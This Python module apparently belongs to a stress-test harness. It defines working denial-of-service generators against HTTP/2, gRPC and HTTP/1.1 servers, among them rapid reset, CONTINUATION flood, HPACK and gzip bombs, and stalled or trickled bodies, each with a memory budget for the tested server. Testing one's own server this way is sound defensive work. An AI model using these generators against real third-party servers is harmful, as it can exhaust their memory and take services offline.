"""The attacks: what one connection of each sends, as a generator of bytes."""

from __future__ import annotations

import gzip
import itertools
import math
import os
import struct
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from typing import Any, TypeAlias

import attrs
from peering.http2 import (
    END_HEADERS,
    END_STREAM,
    INITIAL_WINDOW_SIZE,
    LARGEST_FRAME,
    LARGEST_WINDOW,
    PREFACE,
    Kind,
    block,
    frame,
    grpc_message,
    reset,
    settings,
    window_update,
)

from abusing.wire import Target

MEGABYTE = 10**6

ANSWER = 64 * MEGABYTE
"""Bytes of each of the large answers that wait."""
ANSWERS = 16
"""How many of them wait; it bounds what the attacks that pull them can take."""

Batch: TypeAlias = tuple[bytes, int]
"""Bytes that are sent at once, and how many frames (or requests) they are."""

Script: TypeAlias = Callable[[Target], Iterator[Batch]]
"""What one connection sends."""


@attrs.frozen(kw_only=True)
class Attack:
    """What is done to a server, and what that may cost it."""

    name: str
    script: Script
    connections: int = 4
    """As many at the same time; one that ends is followed by another."""
    rest_after: float = math.inf
    """Seconds for which one that has sent everything is kept open."""
    reads: bool = True
    text: bool = False
    """Whether this is HTTP/1.1, or nothing at all; else it is HTTP/2, and not for REST."""
    handshake: bool = True
    """Whether a TLS handshake is completed first."""
    settings: Mapping[int, int] = attrs.field(factory=dict)
    memory: int = 100 * MEGABYTE
    """Bytes by which the server may grow meanwhile."""
    memory_grpc: int | None = None
    """The same for gRPC, where that is another figure."""
    large_answers: bool = False
    rest: bool | None = None
    """Whether it is for REST only, or for gRPC only."""

    def is_for(self, *, rest: bool) -> bool:
        """Say whether a server over REST, or over gRPC, can be attacked like this."""
        return self.rest in (None, rest) and (self.text or not rest)


ATTACKS: list[Attack] = []

# A gRPC call whose head is too large takes up to 1.2 MB until it ends, and nothing that can be set
# makes that less: 1,024 streams on each of 4 connections.
_LARGE_HEADS = 4 * 1200 * MEGABYTE

# A head that does not end is seen by nobody but gRPC, which keeps ten to twenty times as much:
# nothing bounds it but the frames that are sent here.
_ENDLESS_HEADS = 5000 * MEGABYTE

# grpc copies each answer; REST sends what the API made.
_LARGE = ANSWER * ANSWERS + 100 * MEGABYTE
_WINDOW_0: Mapping[str, Any] = {
    "connections": 1,
    "settings": {INITIAL_WINDOW_SIZE: 0},
    "large_answers": True,
    "memory_grpc": 2 * ANSWER * ANSWERS + 100 * MEGABYTE,
}

# What requests may have together.
_BODIES = 2**31 + 100 * MEGABYTE

# Seconds until one that has sent everything gives way to the next.
_AT_ONCE = 0.05


def attack(name: str, **how: Any) -> Callable[[Script], Script]:
    """Add an attack with this script; `how` names fields of `Attack`."""

    def add(script: Script) -> Script:
        ATTACKS.append(Attack(name=name, script=script, **how))
        return script

    return add


http1_attack = partial(attack, text=True, rest=True)


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def _hpack_length(length: int) -> bytes:
    # RFC 7541, 5.1: an integer with a prefix of 7 bits.
    encoded, rest = bytearray([0x7F]), length - 0x7F
    while rest > 0x7F:
        encoded.append(rest & 0x7F | 0x80)
        rest >>= 7
    encoded.append(rest)
    return bytes(encoded)


def _flood(one: bytes, times: int) -> Iterator[Batch]:
    return itertools.repeat((one * times, times))


def _first_streams() -> range:
    return range(1, 2 * ANSWERS, 2)


@attack("none", connections=0, text=True)
def nothing(_: Target) -> Iterator[Batch]:
    """No attack: what everything else is compared with."""
    yield from ()


@attack("rapid reset")
def rapid_reset(target: Target) -> Iterator[Batch]:
    """Calls that are held, each given up at once (CVE-2023-44487)."""
    streams = _streams()
    while True:
        yield (
            b"".join(
                target.call(stream, "PullTaskIns", target.idle_pull) + reset(stream)
                for stream in itertools.islice(streams, 50)
            ),
            150,
        )


@attack("endless headers", memory_grpc=250 * MEGABYTE)
def endless_headers(target: Target) -> Iterator[Batch]:
    """A head that goes on in CONTINUATION frames without end (CVE-2024-27316)."""
    fields = block(target.fields("Ping"))
    yield frame(Kind.HEADERS, END_STREAM, 1, fields), 1
    more = frame(Kind.CONTINUATION, 0, 1, block([(b"x", bytes(1000))]))
    yield from _flood(more, 50)


@attack("CONTINUATION flood", memory_grpc=_ENDLESS_HEADS)
def continued_headers(target: Target) -> Iterator[Batch]:
    """The same with as many fields in a frame as are let through; each grows tenfold."""
    yield frame(Kind.HEADERS, END_STREAM, 1, block(target.fields("Ping"))), 1
    more = frame(Kind.CONTINUATION, 0, 1, b"\0\x01x\x01y" * 430)
    yield from _flood(more, 20)


@attack("HPACK bomb", memory_grpc=_LARGE_HEADS)
def compressed_headers(target: Target) -> Iterator[Batch]:
    """Heads of 16 KB that unpack to 64 MB: one field of 4 KB, named again and again."""
    known = block(target.fields("Ping"))
    name, value = b"x", b"y" * 4000
    literal = b"\x40" + bytes([len(name)]) + name + _hpack_length(len(value)) + value
    again = b"\xbe" * (LARGEST_FRAME - 100)
    for stream in _streams():
        first = frame(Kind.HEADERS, END_STREAM, stream, known + literal)
        yield first + frame(Kind.CONTINUATION, END_HEADERS, stream, again), 2


@attack("header field of 1 MB", memory_grpc=_LARGE_HEADS)
def large_header(target: Target) -> Iterator[Batch]:
    """Heads with one field of 1 MB."""
    whole = block([*target.fields("Ping"), (b"x", bytes(MEGABYTE))])
    pieces = [whole[start : start + LARGEST_FRAME] for start in range(0, len(whole), LARGEST_FRAME)]
    for stream in _streams():
        frames = [frame(Kind.HEADERS, END_STREAM, stream, pieces[0])]
        frames += [frame(Kind.CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
        frames += [frame(Kind.CONTINUATION, END_HEADERS, stream, pieces[-1])]
        yield b"".join(frames), len(frames)


@attack("SETTINGS flood, reads nothing", reads=False)
@attack("SETTINGS flood")
def settings_flood(_: Target) -> Iterator[Batch]:
    """SETTINGS, each of which has to be acknowledged."""
    values = itertools.cycle([65_535, 65_534])
    while True:
        frames = b"".join(settings({INITIAL_WINDOW_SIZE: next(values)}) for _ in range(200))
        yield frames, 200


@attack("PING flood, reads nothing", reads=False)
@attack("PING flood")
def ping_flood(_: Target) -> Iterator[Batch]:
    """PING, each of which has to be answered."""
    yield from _flood(frame(Kind.PING, 0, 0, b"pingping"), 200)


@attack("PRIORITY flood")
def priority_flood(_: Target) -> Iterator[Batch]:
    """PRIORITY, for streams that are and that are not, in ever new orders (CVE-2019-9513)."""
    for start in itertools.count(1, 400):
        frames = [
            frame(Kind.PRIORITY, 0, stream, struct.pack("!IB", max(0, stream - 2), stream % 256))
            for stream in range(start, start + 400, 2)
        ]
        yield b"".join(frames), len(frames)


@attack("empty DATA flood")
def empty_data(target: Target) -> Iterator[Batch]:
    """A body of DATA frames with nothing in them (CVE-2019-9518)."""
    yield frame(Kind.HEADERS, END_HEADERS, 1, block(target.fields("Ping"))), 1
    yield from _flood(frame(Kind.DATA, 0, 1, b""), 200)


@attack(f"{ANSWERS} answers of 64 MB, window 0", **_WINDOW_0)
def zero_window(target: Target) -> Iterator[Batch]:
    """Pulls of large answers, with no room to send them into."""
    calls = [target.call(stream, "PullTaskIns", target.pull) for stream in _first_streams()]
    yield b"".join(calls), 2 * len(calls)


@attack(f"{ANSWERS} answers of 64 MB, byte by byte", **_WINDOW_0)
def tiny_windows(target: Target) -> Iterator[Batch]:
    """Pulls of large answers, let through byte by byte."""
    yield from zero_window(target)
    updates = [window_update(stream, 1) for stream in _first_streams()]
    while True:
        yield b"".join(updates), len(updates)


@attack("streams with half a request", settings={INITIAL_WINDOW_SIZE: LARGEST_WINDOW})
def half_requests(target: Target) -> Iterator[Batch]:
    """Ever more calls whose bodies have begun and never end."""
    fields = block(target.fields("PushTaskRes"))
    body = struct.pack("!BI", 0, 512 * 2**20) + b"\x0a"
    streams = _streams()
    while True:
        chosen = list(itertools.islice(streams, 50))
        frames = [
            frame(Kind.HEADERS, END_HEADERS, stream, fields) + frame(Kind.DATA, 0, stream, body)
            for stream in chosen
        ]
        yield b"".join(frames), 2 * len(frames)


@attack("gzip and deflate bombs", connections=24, rest_after=1, rest=False)
def compressed_bodies(target: Target) -> Iterator[Batch]:
    """A body of 64 KB that unpacks to a thousand times as much, by each of gRPC's two methods."""
    zeros = bytes(55 * 2**20)
    bodies = {b"gzip": gzip.compress(zeros), b"deflate": zlib.compress(zeros)}
    for number, (name, body) in zip(_streams(), bodies.items(), strict=False):
        fields = block([*target.fields("PushTaskRes"), (b"grpc-encoding", name)])
        message = grpc_message(body, compressed=True)
        pieces = [
            frame(Kind.DATA, 0, number, message[start : start + LARGEST_FRAME])
            for start in range(0, len(message), LARGEST_FRAME)
        ]
        head = frame(Kind.HEADERS, END_HEADERS, number, fields)
        yield head + b"".join(pieces) + frame(Kind.DATA, END_STREAM, number, b""), 2 + len(pieces)


@attack("streams with a held pull")
def held_pulls(target: Target) -> Iterator[Batch]:
    """Ever more pulls that are held."""
    streams = _streams()
    while True:
        calls = [
            target.call(stream, "PullTaskIns", target.idle_pull)
            for stream in itertools.islice(streams, 50)
        ]
        yield b"".join(calls), 2 * len(calls)


@attack("connections without a word", connections=500, text=True)
def silence(_: Target) -> Iterator[Batch]:
    """Connections that say nothing."""
    yield from ()


@attack("half a handshake", connections=500, text=True, handshake=False)
def half_a_hello(target: Target) -> Iterator[Batch]:
    """Connections that begin with half of what comes first, and no more."""
    if target.tls is None:
        yield (b"POST /api/v0/fl" if target.rest else b"PRI * HT"), 1
    else:
        yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32), 1


@attack("noise", text=True, handshake=False)
def noise(_: Target) -> Iterator[Batch]:
    """Random bytes instead of a preface."""
    while True:
        yield os.urandom(1000), 1


@attack("path or method not UTF-8", rest_after=_AT_ONCE)
def strange_first_lines(target: Target) -> Iterator[Batch]:
    """Calls whose path or method is not ASCII, and not even UTF-8."""
    fields = dict(target.fields("Ping"))
    for name, value in ((b":path", b"/\xff\xfe"), (b":path", b"/\xc3\xa9"), (b":method", b"P\xff")):
        head = block([*{**fields, name: value}.items()])
        yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, head), 1


@http1_attack("WebSocket upgrade", rest_after=_AT_ONCE)
def websocket_upgrade(_: Target) -> Iterator[Batch]:
    """An upgrade to WebSocket with a byte too many."""
    head = (
        b"GET /api/v0/fleet/ping HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\n"
        b"upgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: x\r\n\r\n"
    )
    yield head + b"x", 1


@http1_attack("upgrade to HTTP/2", rest_after=_AT_ONCE)
def upgrade_to_http2(_: Target) -> Iterator[Batch]:
    """An upgrade to HTTP/2 of a request whose path is not ASCII."""
    yield (
        b"GET /\xe9 HTTP/1.1\r\nhost: x\r\nconnection: upgrade, http2-settings\r\n"
        b"upgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\n",
        1,
    )


@http1_attack("HTTP/2, unasked", rest_after=_AT_ONCE)
def prior_knowledge(_: Target) -> Iterator[Batch]:
    """HTTP/2 without having asked for it."""
    yield PREFACE + settings({}) + frame(Kind.PING, 0, 0, b"pingping") * 50, 51


@http1_attack("body after its answer", rest_after=_AT_ONCE)
def body_after_answer(target: Target) -> Iterator[Batch]:
    """A body that goes on after its early answer."""
    yield target.post("ping", 10**9), 1
    for _ in range(50):
        yield bytes(100), 1


@attack("CONNECT without a path", rest_after=_AT_ONCE)
def connect_without_path(_: Target) -> Iterator[Batch]:
    """CONNECT, which has no path."""
    head = block([(b":method", b"CONNECT"), (b":authority", b"localhost")])
    yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, head), 1


@http1_attack("HTTP/1.1 head without end")
def http1_without_end(_: Target) -> Iterator[Batch]:
    """Header fields of HTTP/1.1 without end."""
    yield b"POST /api/v0/fleet/ping HTTP/1.1\r\nhost: x\r\n", 1
    while True:
        yield b"x: " + b"y" * 200 + b"\r\n", 1


@http1_attack("4 bodies in small pieces")
def trickled_bodies(target: Target) -> Iterator[Batch]:
    """Pushes of 512 MiB that have begun, and go on by 4 KB at a time."""
    yield target.post("push-task-res", 512 * 2**20), 1
    while True:
        yield bytes(4096), 1


@http1_attack("100 bodies that stall", connections=100, memory=_BODIES)
def stalled_bodies(target: Target) -> Iterator[Batch]:
    """Pushes of 512 MiB of which 40 MB come at once, and then no more."""
    yield target.post("push-task-res", 512 * 2**20), 1
    for _ in range(40):
        yield bytes(MEGABYTE), 1


@http1_attack("chunks of one byte")
def chunks_of_one_byte(target: Target) -> Iterator[Batch]:
    """A body whose every byte is a chunk."""
    yield target.post("push-task-res", None), 1
    yield from _flood(b"1\r\nx\r\n", 200)


@http1_attack(
    f"{ANSWERS} answers of 64 MB that nobody reads",
    connections=ANSWERS,
    reads=False,
    large_answers=True,
    memory=_LARGE,
)
def unread_answers(target: Target) -> Iterator[Batch]:
    """A pull of a large answer that nobody reads."""
    yield target.post("pull-task-ins", len(target.pull)) + target.pull, 1


@http1_attack("pulls behind a held pull")
def pipelined_pulls(target: Target) -> Iterator[Batch]:
    """Pulls that are held, one behind the other."""
    one = target.post("pull-task-ins", len(target.idle_pull)) + target.idle_pull
    yield from _flood(one, 50)
